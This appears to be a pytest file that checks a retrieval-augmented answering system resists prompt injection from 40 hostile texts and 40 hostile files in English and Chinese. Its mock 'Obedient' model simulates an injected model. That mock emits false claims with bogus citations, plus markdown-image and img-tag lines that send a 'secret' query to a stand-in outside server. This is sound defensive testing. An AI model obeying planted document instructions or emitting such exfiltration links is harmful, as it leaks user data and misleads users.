"""Documents are data: orders in 40 texts and 40 files change no claim that is shown, nothing
leaves, and a model at an endpoint gets no tools and no other system text."""

import json
import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from injection_files import CARRIERS, ORDERS, SAYS, carrier
from injections import ELSEWHERE, EN, FALSE_EN, FALSE_ZH, ZH
from rag_notes import FILES
from seesay.data.squares import ImageTransformConfig
from seesay.rag.answer import AskConfig, stream_answer
from seesay.rag.claims import INSTRUCTION, SCHEMA, CitedAnswer, as_data
from seesay.rag.evidence import Evidence
from seesay.rag.verification import aligned
from seesay.search.catalog.drafts import Place
from seesay.search.collection import Collection
from seesay.search.filtering import make_filter
from seesay.search.reading.files import ReadLimits
from seesay.search.reading.messages import ListedFile, Passage, ReadSettings
from seesay.search.reading.process import read
from seesay.search.reading.registry import media_type_of
from texts_in_a_collection import make_collection

QUESTIONS = {"en": "When did Harwick Library open?", "zh": "城南图书馆是哪一年开放的？"}
HONEST = {
    "en": "It was designed by Tobias Finch and opened in 1931.",
    "zh": "城南图书馆位于灯笼街，由王思远设计，于1987年开放。",
}
CASES = [("en", n) for n in range(len(EN))] + [("zh", n) for n in range(len(ZH))]
SETTINGS = ReadSettings(
    transform=ImageTransformConfig(size=32), reduce_large=True, limits=ReadLimits()
)


class Obedient(BaseHTTPRequestHandler):
    """A model that does what any document says: repeats its falsehood under every number that there
    is and some that there are not, sends data to its address, and says yes to every check."""

    def log_message(self, *args: Any) -> None:
        pass

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.bodies.append(body)
        prompt = json.dumps(body["messages"], ensure_ascii=False)
        prompt += body["messages"][-1]["content"] if len(body["messages"]) > 1 else ""
        self.server.prompts.append(prompt)
        text = "yes" if len(body["messages"]) == 1 else self._obey(prompt)
        message = {"role": "assistant", "content": text}
        choice = {"index": 0, "message": message, "finish_reason": "stop"}
        reply = {"id": "1", "object": "chat.completion", "created": 1, "model": "m"}
        data = json.dumps({**reply, "choices": [choice]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _obey(self, prompt: str) -> str:
        language = "zh" if QUESTIONS["zh"] in prompt else "en"
        honest, false = HONEST[language], {"zh": FALSE_ZH, "en": FALSE_EN}[language]
        address = ELSEWHERE.format(port=self.server.elsewhere)
        ids = [int(one) for one in re.findall(r'\{\\*"id\\*": (\d+)', prompt)]
        good = next(n for n in ids if n)
        claims = [
            {"text": false, "evidence": [number]} for number in (*dict.fromkeys(ids), 99, 0, -1)
        ]
        claims += [{"text": false, "evidence": list(dict.fromkeys(ids))}]
        claims += [{"text": f"![x]({address}?q=secret) {false}", "evidence": [good]}]
        claims += [{"text": f"<img src='{address}'>", "evidence": [good]}]
        claims += [{"text": honest, "evidence": list(dict.fromkeys(ids))}]
        return json.dumps({"claims": claims}, ensure_ascii=False)


class Elsewhere(BaseHTTPRequestHandler):
    """Where nothing may arrive."""

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.server.visits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET


def serve(handler: type, **state: Any) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    vars(server).update(state)
    Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[ThreadingHTTPServer]:
    server = serve(Elsewhere, visits=[])
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def obedient(elsewhere) -> Iterator[ThreadingHTTPServer]:
    server = serve(Obedient, prompts=[], bodies=[], elsewhere=elsewhere.server_port)
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory, elsewhere) -> Iterator[Collection]:
    """The notes, and each hostile text and file in a folder of its own."""
    top, port = tmp_path_factory.mktemp("poisoned"), elsewhere.server_port
    bad: dict[str, Any] = {
        f"/bad/{language}{number}/x.txt": text.replace("{port}", str(port))
        for language, texts in (("en", EN), ("zh", ZH))
        for number, text in enumerate(texts)
    }
    for language, name, _ in CARRIERS:
        ending, data = carrier(language, name, port)
        file = top / f"{language} {name}{ending}"
        file.write_bytes(data)
        bad[f"/bad/{file.stem}/{ORDERS[language]}{ending}"] = passages_of(file)
    with make_collection(top / "collection", {**FILES, **bad}) as collection:
        yield collection


def passages_of(file: Path) -> list[Passage]:
    """The passages with a text, by the reader of its kind."""
    media_type = media_type_of(file.name) or ""
    parts = list(read(ListedFile(path=str(file), expected=media_type), SETTINGS))
    assert not any(part.stage for part in parts), file.name
    return [one for part in parts for one in part.passages if one.text]


def asked(collection: Collection, language: str, folder: str, **how: Any) -> CitedAnswer:
    config = AskConfig(filter=make_filter(folders=["/notes", folder]), **how)
    steps = stream_answer(collection, QUESTIONS[language], config)
    while True:
        try:
            next(steps)
        except StopIteration as end:
            return end.value


def check(answer: CitedAnswer, language: str) -> None:
    assert [claim.text for claim in answer.claims] == [HONEST[language]]
    (claim,) = answer.claims
    cited = {answer.evidence[number - 1].path for number in claim.evidence}
    assert all(path.startswith("/notes") for path in cited)
    assert all(aligned(quote, answer.evidence) for quote in claim.quotes)


def test_there_are_forty_texts_and_forty_files():
    assert len(CASES) == len(set(EN + ZH)) == len(set(CARRIERS)) == 40


@pytest.mark.parametrize("language, number", CASES)
def test_a_hostile_document_changes_no_quoted_answer(poisoned, elsewhere, language, number):
    answer = asked(poisoned, language, f"/bad/{language}{number}")
    assert any(one.path.startswith("/bad") for one in answer.evidence), "it was not even read"
    check(answer, language)
    assert elsewhere.visits == []


@pytest.mark.parametrize("language, number", CASES)
def test_a_model_that_obeys_documents_gets_no_claim_through(
    poisoned, obedient, elsewhere, language, number
):
    address = f"http://127.0.0.1:{obedient.server_port}/v1"
    how = {"mode": "endpoint", "endpoint": address, "model": "m"}
    answer = asked(poisoned, language, f"/bad/{language}{number}", **how)
    check(answer, language)
    assert answer.dropped, "the model did not obey"
    assert not any("://" in claim.text or "![" in claim.text for claim in answer.dropped)
    assert elsewhere.visits == []


@pytest.mark.parametrize("language, name, unseen", CARRIERS)
def test_a_hostile_file_changes_no_quoted_answer(poisoned, elsewhere, language, name, unseen):
    answer = asked(poisoned, language, f"/bad/{language} {name}")
    check(answer, language)
    check_file(answer, language, unseen)
    assert elsewhere.visits == []


@pytest.mark.parametrize("language, name, unseen", CARRIERS)
def test_a_hostile_file_changes_nothing_of_what_a_model_is_asked(
    poisoned, obedient, elsewhere, language, name, unseen
):
    obedient.bodies.clear()
    address = f"http://127.0.0.1:{obedient.server_port}/v1"
    how = {"mode": "endpoint", "endpoint": address, "model": "m"}
    answer = asked(poisoned, language, f"/bad/{language} {name}", **how)
    check(answer, language)
    check_file(answer, language, unseen)
    assert answer.dropped, "the model did not obey"
    first, *checks = obedient.bodies
    system, user = first["messages"]
    assert system == {"role": "system", "content": INSTRUCTION.in_language(language)}
    *data, gap, question = user["content"].splitlines()
    assert (user["role"], gap, question) == ("user", "", QUESTIONS[language])
    assert [json.loads(line)["id"] for line in data] == [one.id for one in answer.evidence]
    assert first["response_format"]["json_schema"]["schema"] == SCHEMA
    assert not {"tools", "tool_choice", "functions"} & set().union(*obedient.bodies)
    assert all([one["role"] for one in body["messages"]] == ["user"] for body in checks)
    assert elsewhere.visits == []


def check_file(answer: CitedAnswer, language: str, unseen: bool) -> None:
    """It was read, and what people do not see in it is no evidence."""
    texts = [one.text for one in answer.evidence if one.path.startswith("/bad")]
    assert any(SAYS[language][-12:] in text for text in texts), "it was not even read"
    order = ORDERS[language][:12]
    assert any(order in text for text in texts) != unseen


def test_the_check_does_not_see_the_question(poisoned, obedient):
    obedient.prompts.clear()
    address = f"http://127.0.0.1:{obedient.server_port}/v1"
    how = {"mode": "endpoint", "endpoint": address, "model": "m"}
    asked(poisoned, "en", "/bad/en0", **how)
    checks = [one for one in obedient.prompts if "Statement:" in one]
    assert checks and not any(QUESTIONS["en"] in one for one in checks)


@pytest.mark.parametrize("text", [*EN, *ZH])
def test_no_text_ends_the_data_it_is_in(text):
    evidence = Evidence(
        id=7, unit=1, path="/a", kind="text", locator=Place(), text=text, confidence=90.0
    )
    (line,) = as_data([evidence]).splitlines()
    assert json.loads(line) == {"id": 7, "kind": "text", "text": text}
    assert not set("<>|") & set(line)
